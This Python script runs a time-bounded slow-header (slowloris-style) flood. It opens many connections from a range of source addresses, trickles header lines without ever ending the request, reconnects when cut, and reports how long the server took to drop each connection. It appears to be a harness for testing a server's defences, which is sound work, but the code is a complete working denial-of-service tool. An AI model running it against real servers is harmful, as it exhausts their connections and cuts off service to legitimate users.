#!/usr/bin/env python3
"""A slow-header flood, bounded in time: from each source address, PER_SOURCE connections
each send a request line and then one header line every INTERVAL seconds, never ending
the headers. A connection the server closes is counted (with how long it lived) and
opened again at once, as an attacker would. Prints "ready <n>" once the first wave is
connected, and a JSON summary on exit.

usage: slow_headers.py HOST PORT FIRST_SOURCE SOURCES PER_SOURCE INTERVAL DURATION
"""
import asyncio
import ipaddress
import json
import resource
import socket
import sys
import time

host, port = sys.argv[1], int(sys.argv[2])
first = ipaddress.IPv4Address(sys.argv[3])
sources = [str(first + i) for i in range(int(sys.argv[4]))]
per_source, interval, duration = int(sys.argv[5]), float(sys.argv[6]), float(sys.argv[7])

soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

lifetimes = []      # seconds each server-closed connection lived
first_lifetimes = []  # the same, for each task's first connection only
refused = 0         # connects that failed
opened = 0
start = time.monotonic()
deadline = start + duration


async def one(source, first_wave):
    global refused, opened
    first = True
    while time.monotonic() < deadline:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        sock.bind((source, 0))
        born = time.monotonic()
        try:
            await asyncio.wait_for(asyncio.get_running_loop().sock_connect(sock, (host, port)), 2)
            reader, writer = await asyncio.open_connection(sock=sock)
        except (OSError, asyncio.TimeoutError):
            refused += 1
            sock.close()
            await asyncio.sleep(0.2)
            continue
        opened += 1
        if first_wave is not None:
            first_wave.set_result(None)
            first_wave = None
        try:
            writer.write(b"GET / HTTP/1.1\r\nHost: flood.example\r\n")
            line = 0
            while time.monotonic() < deadline:
                # Read with a timeout of one interval: EOF means the server cut us.
                try:
                    data = await asyncio.wait_for(reader.read(4096), interval)
                    if not data:
                        lifetimes.append(time.monotonic() - born)
                        if first:
                            first_lifetimes.append(lifetimes[-1])
                        break
                except asyncio.TimeoutError:
                    line += 1
                    writer.write(b"X-Slow-%d: still-sending\r\n" % line)
        except OSError:
            lifetimes.append(time.monotonic() - born)
            if first:
                first_lifetimes.append(lifetimes[-1])
        finally:
            writer.close()
            first = False
    if first_wave is not None:
        first_wave.set_result(None)


async def main():
    loop = asyncio.get_running_loop()
    waves = [loop.create_future() for _ in range(len(sources) * per_source)]
    tasks = [asyncio.create_task(one(source, waves[i * per_source + j]))
             for i, source in enumerate(sources) for j in range(per_source)]
    await asyncio.gather(*waves)
    print("ready %d" % opened, flush=True)
    await asyncio.gather(*tasks)
    def pick(values, q):
        values = sorted(values)
        return round(values[min(len(values) - 1, int(q * len(values)))], 2) if values else None
    # Reconnects can meet the per-address limit while the server is still closing that
    # address's cut connections: those are dropped at once, and counted apart.
    print(json.dumps({"connections": len(sources) * per_source, "opened": opened, "refused": refused,
                      "cut": len(lifetimes), "dropped_within_1s": sum(1 for t in lifetimes if t < 1),
                      "first_wave_cut": len(first_lifetimes), "first_wave_min": pick(first_lifetimes, 0),
                      "first_wave_p50": pick(first_lifetimes, 0.5), "first_wave_max": pick(first_lifetimes, 1),
                      "all_p50": pick(lifetimes, 0.5), "all_p99": pick(lifetimes, 0.99)}), flush=True)

asyncio.run(main())
